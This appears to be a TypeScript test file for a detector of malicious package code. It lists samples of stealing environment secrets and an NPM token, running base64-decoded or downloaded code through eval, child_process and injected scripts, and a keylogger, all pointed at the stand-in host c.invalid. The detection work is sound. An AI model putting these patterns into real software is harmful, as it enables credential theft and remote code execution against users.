import { testDeeds, type Deed } from './deeds.ts'

const ENV = `const D = JSON.stringify(process.env)`
const CODE = `const C = Buffer.from('${Buffer.from(`require('https').get('https://c.invalid/' + process.env.NPM_TOKEN)`).toString('base64')}', 'base64').toString()`

/** Ways by which data goes on and code comes in that are seldom seen. */
const DEEDS: readonly Deed[] = [
  ...(
    [
      ['the process written out', `const D = JSON.stringify(process, ['env'])`],
      ['a member of the process that is looked for', `const D = Object.entries(process).find(([k]) => k === 'env')[1]`],
      ['a map', `const m = new Map(); m.set('a', process.env); const D = JSON.stringify([...m.values()])`],
      ['a queue', `const q = [JSON.stringify(process.env)]; const D = q.shift()`],
    ] as const
  ).map(([name, code]) => ({
    name: `secrets that come by ${name}`,
    check: 'secrets-exfiltration',
    code: `${code}; fetch('https://c.invalid/', { method: 'POST', body: D })`,
    twin: `${code.replaceAll('process.env', '[1]').replace(/JSON.stringify\(process,.*\)|Object.entries\(process\).*/, '1')}; fetch('https://c.invalid/', { method: 'POST', body: D })`,
  })),
  ...(
    [
      [
        'a client that is imported on the spot',
        `import('got').then(({ default: got }) => got.post('https://c.invalid/', { json: { d: D } }))`,
      ],
      [
        'the parameters of an address',
        `const u = new URL('https://c.invalid/'); u.searchParams.set('d', D); require('https').get(u.toString())`,
      ],
      [
        'a form',
        `const F = require('form-data'), f = new F(); f.append('d', D); f.submit('https://c.invalid/', () => {})`,
      ],
      [
        'a worker',
        `new (require('worker_threads').Worker)("fetch('https://c.invalid/', { method: 'POST', body: require('worker_threads').workerData })", { eval: true, workerData: D })`,
      ],
    ] as const
  ).map(([name, code]) => ({
    name: `secrets that leave by ${name}`,
    check: 'secrets-exfiltration',
    code: `${ENV}; ${code}`,
    twin: `const D = 'started'; ${code}`,
  })),
  ...(
    [
      ['a file that is imported', `require('fs').writeFileSync('/tmp/z.mjs', C); import('/tmp/z.mjs')`],
      ['what node is fed', `const p = require('child_process').spawn('node', ['-']); p.stdin.end(C)`],
      ['the prototype of modules', `module.constructor.prototype._compile.call(module, C, 'z.js')`],
      [
        'a script of the page',
        `const s = document.createElement('script'); s.textContent = C; document.head.appendChild(s)`,
      ],
      ['a function that replaces a part of a text', `'x'.replace(/x/, () => Function(C)())`],
      ['a function that revives values', `JSON.parse('[1]', () => Function(C)())`],
    ] as const
  ).map(([name, code]) => ({
    name: `decoded code that is run by ${name}`,
    check: 'decode-and-execute',
    code: `${CODE}; ${code}`,
    twin: `${CODE}; console.log(C.length)`,
    moments: ['import'] as const,
  })),
  ...(
    [
      ['a store', `require('redis').createClient({ url: 'redis://c.invalid' }).get('c').then((c) => { eval(c) })`],
      [
        'a queue of messages',
        `require('mqtt').connect('mqtt://c.invalid').on('message', (t, m) => require('child_process').exec(m.toString()))`,
      ],
      [
        'a chain',
        `const { ethers } = require('ethers'); new ethers.Contract('0x1', [], new ethers.JsonRpcProvider('https://c.invalid')).get().then((c) => { eval(c) })`,
      ],
      [
        'a box of mails',
        `const I = require('imap'), i = new I({ host: 'c.invalid' }); i.on('mail', (m) => require('child_process').exec(m.body))`,
      ],
    ] as const
  ).map(([name, code]) => ({
    name: `code that comes by ${name}`,
    check: 'download-and-execute',
    code,
    twin: code.replace(/eval\(|require\('child_process'\)\.exec\(/, 'console.log('),
  })),
  {
    name: 'a program that is fetched and started, and one that an installer fetched and hands all words on to',
    check: 'download-and-execute',
    code: `const p = require('os').tmpdir() + '/m.js'; require('request')('https://c.invalid/m', (e, r, b) => { require('fs').writeFileSync(p, b); require('child_process').execFileSync('node', [p]) })`,
    twin: `const p = require('path').join(__dirname, 'bin', 'tool'); require('request')('https://c.invalid/m', (e, r, b) => { require('fs').writeFileSync(p, b) }); require('child_process').execFileSync('node', [p].concat(process.argv.slice(2)))`,
    moments: ['install'],
  },
  {
    name: 'options that may hold the process, and the process itself',
    check: 'secrets-exfiltration',
    code: `const D = { ...process }; fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(D) })`,
    twin: `const send = (o) => fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ fin: true, ...o }) }); send({ a: 1 }); send(process)`,
  },
  {
    name: 'a script that comes over a connection, and over one to whoever serves the page',
    check: 'download-and-execute',
    code: `new WebSocket('wss://c.invalid/m').onmessage = (m) => { const s = document.createElement('script'); s.text = m.data; document.head.appendChild(s) }`,
    twin: `new WebSocket(\`wss://\${window.location.host}/m\`).onmessage = (m) => { const s = document.createElement('script'); s.text = m.data; document.head.appendChild(s) }`,
    moments: ['import'],
  },
  {
    name: 'code that is put together, and a page that is made into a template',
    check: 'decode-and-execute',
    code: `new Function(['require("https")', '.get("https://c.invalid/" + process.env.A)'].reverse().reverse().map((x) => x.toLowerCase()).join(''))()`,
    twin: `new Function('t', '<a href="https://c.invalid/">'.replace(/"/g, "'") + ['</a>'].join(''))`,
    moments: ['import'],
  },
  {
    name: 'a listener of keys, and any listener that a library adds',
    check: 'spying',
    code: `document.addEventListener('keydown', (e) => { new Image().src = 'https://c.invalid/?k=' + e.key })`,
    twin: `const on = (type, f) => document.addEventListener(type, f); for (const t of ['keydown', 'click', 'load', 'scroll', 'wheel']) on(t, (e) => { new Image().src = 'https://c.invalid/?k=' + e.target })`,
    moments: ['import'],
  },
]

testDeeds(DEEDS)
